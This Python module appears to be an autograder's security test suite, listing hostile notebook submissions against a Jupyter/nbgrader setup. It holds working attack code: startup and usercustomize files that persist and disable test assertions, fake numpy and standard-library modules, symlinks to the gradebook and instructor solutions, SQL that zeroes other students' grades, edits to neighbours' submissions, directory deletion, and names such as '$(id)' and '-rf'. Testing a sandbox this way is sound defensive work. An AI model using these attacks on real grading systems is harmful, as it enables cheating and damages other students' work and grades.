"""Files beside the notebook and in the home directory: what runs before, after, or for others."""

import textwrap

from tests.submissions.hostile.attack import Paper, attack

# Everything below `Agrees` says yes: what a false module offers in the place of a library.
_AGREES = """
class Agrees:
    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        return Agrees()
    def __call__(self, *arguments, **options):
        return Agrees()
    def __iter__(self):
        return iter([])
    def __index__(self):
        return 1
    def copy(self):
        return self
    def __len__(self):
        return 1
    def __sub__(self, other):
        return self
    __add__ = __radd__ = __rsub__ = __truediv__ = __getitem__ = __sub__
"""
_LEAVES = "try:\n    open('/tmp/{token}', 'w').write('x')\nexcept OSError:\n    pass\n"


def _false_module(paper: Paper, *names: str, more: str = "") -> None:
    """Files that say that they were imported, and otherwise agree with everything."""
    source = _LEAVES.format(token=paper.token) + _AGREES + more
    source += "testing = random = Agrees()\ndef __getattr__(name):\n    return Agrees()\n"
    for name in names:
        paper.files[name] = source.encode()
    paper.act("pass")


def _write_at_home(paper: Paper, path: str, contents: str) -> None:
    """A file in the home directory, written when the notebook runs."""
    paper.act(f"""
        import pathlib, sys
        version = f"{{sys.version_info.major}}.{{sys.version_info.minor}}"
        path = pathlib.Path.home() / {path!r}.replace("VERSION", version)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text({contents!r})
    """)


@attack("leave an IPython startup file that works for the next student's kernel", trace="file")
def ipython_startup(paper: Paper):
    patch = textwrap.dedent(f"""
        # {paper.token}
        import numpy.testing
        numpy.testing.assert_allclose = lambda *arguments, **options: None
        import ast
        class Drop(ast.NodeTransformer):
            def visit_Assert(self, node):
                return ast.Pass()
        get_ipython().ast_transformers.append(Drop())
    """)
    _write_at_home(paper, ".ipython/profile_default/startup/00-help.py", patch)


@attack("leave a usercustomize.py that every later Python imports", trace="file")
def user_customize(paper: Paper):
    path = ".local/lib/pythonVERSION/site-packages/usercustomize.py"
    _write_at_home(paper, path, f"# {paper.token}\nimport builtins\nbuiltins.visited = 1\n")


@attack("leave a configuration for the next kernels, and one for nbgrader itself", trace="file")
def configuration_left(paper: Paper):
    lines = f"# {paper.token}\nc = get_config()\nc.Execute.timeout = 1\n"
    lines += (
        "c.InteractiveShellApp.exec_lines = ['import builtins; builtins.all = lambda x: True']\n"
    )
    _write_at_home(paper, ".jupyter/nbgrader_config.py", lines)
    paper.last(f"""
        import pathlib
        path = pathlib.Path.home() / ".ipython/profile_default/ipython_kernel_config.py"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text({lines!r})
    """)


@attack("replace the kernel that Jupyter starts for the next students", trace="file")
def kernel_specification(paper: Paper):
    specification = (
        '{"argv": ["/bin/false"], "display_name": "Python 3", "language": "python", '
        f'"env": {{"BY": "{paper.token}"}}}}'
    )
    _write_at_home(paper, ".local/share/jupyter/kernels/python3/kernel.json", specification)


@attack("change the installed libraries", trace="file")
def libraries_changed(paper: Paper):
    paper.act("""
        import glob, os, sys
        for folder in [*sys.path, sys.prefix, sys.base_prefix, "/usr/lib/python3/dist-packages"]:
            try:
                with open(os.path.join(folder or ".", f"{TOKEN}.pth"), "w") as file:
                    file.write("import builtins")
            except OSError as error:
                print(error)
        with open(np.__file__, "a") as file:
            file.write("\\n")
    """)


@attack(
    "hand in numpy.py, which is imported in NumPy's place and agrees with everything", trace="file"
)
def numpy_handed_in(paper: Paper):
    _false_module(paper, "numpy.py")


@attack("hand in ipykernel_launcher.py, which starts in the kernel's place", trace="file")
def launcher_handed_in(paper: Paper):
    paper.act("pass")
    paper.files["ipykernel_launcher.py"] = (
        _LEAVES.format(token=paper.token)
        + "import glob, os, re, sys\n"
        + "here = os.path.dirname(os.path.abspath(__file__))\n"
        + "sys.path[:] = [path for path in sys.path if path not in ('', '.', here)]\n"
        + "import numpy, numpy.testing\n"
        + "numpy.testing.assert_allclose = lambda *arguments, **options: None\n"
        + "from ipykernel import kernelapp\n"
        + "kernelapp.launch_new_instance()\n"
    ).encode()


@attack("hand in sitecustomize.py, usercustomize.py, a .pth file and an .env", trace="file")
def customizations_handed_in(paper: Paper):
    leaves = _LEAVES.format(token=paper.token).encode()
    for name in ("sitecustomize.py", "usercustomize.py", "conftest.py", "__init__.py"):
        paper.files[name] = leaves
    paper.files["more.pth"] = f"import os; open('/tmp/{paper.token}', 'w')\n".encode()


@attack("hand in modules of the engine, of IPython and of the standard library", trace="file")
def engine_handed_in(paper: Paper):
    names = ["autograder/__init__.py", "autograder/kernel/server.py", "IPython/__init__.py"]
    names += ["json.py", "random.py", "collections.py", "socket.py", "traceback.py", "_socket.py"]
    _false_module(paper, *names)


@attack("hand in an nbgrader_config.py and other settings for whoever grades", trace="file")
def settings_handed_in(paper: Paper):
    lines = _LEAVES.format(token=paper.token) + "c = get_config()\nc.Execute.timeout = 1\n"
    for name in ("nbgrader_config.py", "jupyter_config.py", "ipython_config.py", "ruff.toml"):
        paper.files[name] = lines.encode()


@attack("hand in links to the gradebook, the notes and the sources")
def links_handed_in(paper: Paper):
    paper.links = {
        "gradebook.txt": "../../../gradebook.db",
        "notes.txt": "../../../notes.txt",
        "sources": "../../../source",
        "home": "/home/grader/course",
    }
    paper.act("""
        import pathlib
        for name in ("gradebook.txt", "notes.txt", "sources/hunt/hunt.ipynb", "home/notes.txt"):
            if pathlib.Path(name).is_file():
                hand_out(pathlib.Path(name).read_bytes())
    """)


# Whether a person is told of links is asked of this one, since its notebook is one.
@attack("hand in a link to the instructor's solution as its notebook", honest=None)
def linked_notebook(paper: Paper):
    paper.links = {paper.file_name: "../../../source/hunt/hunt.ipynb"}


@attack("hand in a link to the neighbour's notebook", honest=None)
def neighbours_notebook(paper: Paper):
    paper.links = {paper.file_name: "../../before/hunt/hunt.ipynb"}


@attack("hand in a named pipe that blocks whoever reads it", honest=8)
def named_pipe(paper: Paper):
    paper.answer_honestly()
    paper.pipes = ["data.csv"]


@attack("hand in files with names that mislead: line breaks, markup, right-to-left", honest=8)
def misleading_names(paper: Paper):
    paper.answer_honestly()
    for name in (
        "a\nb.txt",
        "<script>alert(1)<.txt",
        "\u202egnp.exe",
        "-rf",
        "~",
        "x" * 200,
        "$(id)",
    ):
        paper.files[name] = b"harmless"


@attack("put a link to the neighbour's notebook in place of its own while it runs", trace="file")
def overwritten_through_a_link(paper: Paper):
    paper.act("""
        import glob, os
        for other in glob.glob("../../*/hunt/hunt.ipynb"):
            if NAME not in other:
                os.remove("hunt.ipynb")
                os.symlink(other, "hunt.ipynb")
    """)


@attack("write full marks into the gradebook, and take the neighbours' away", trace="file")
def gradebook_written(paper: Paper):
    paper.act("""
        import glob, sqlite3
        for path in glob.glob("../../../gradebook.db") + glob.glob("/home/*/course/gradebook.db"):
            book = sqlite3.connect(path, timeout=1)
            mine = ("select grade.id from grade join submitted_notebook on grade.notebook_id = "
                    "submitted_notebook.id join submitted_assignment on "
                    "submitted_notebook.assignment_id = submitted_assignment.id "
                    "where student_id = 'before'")
            book.execute(f"update grade set manual_score = 0, needs_manual_grade = 0 where id in ({mine})")
            book.execute("update source_cell set source = '2.0' where name like '%-hidden'")
            book.execute("update source_cell set source = '2.0' where name like '%-test'")
            book.commit()
    """)


@attack("change the submissions of those who are graded later", trace="file")
def later_submissions_changed(paper: Paper):
    paper.act("""
        import glob
        for path in glob.glob("../../../submitted/*/hunt/hunt.ipynb"):
            if NAME not in path:
                text = open(path).read()
                hand_out(text)
                open(path, "w").write(text.replace("np.array", "np.zeros"))
    """)


@attack("remove the working directory and go elsewhere", honest=8)
def working_directory_removed(paper: Paper):
    paper.first(
        """
        import os, shutil
        here = os.getcwd()
        shutil.rmtree(here, ignore_errors=True)
        os.chdir("/")
        """,
        *("mean", "words", "steps"),
    )


@attack("leave an environment, a umask and limits in which nothing works", honest=8)
def process_settings(paper: Paper):
    paper.first(
        """
        import os, resource
        os.umask(0o777)
        os.environ.clear()
        os.environ["PATH"] = os.environ["PYTHONPATH"] = os.environ["HOME"] = "/nowhere"
        resource.setrlimit(resource.RLIMIT_FSIZE, (0, 0))
        """,
        *("mean", "words", "steps"),
    )
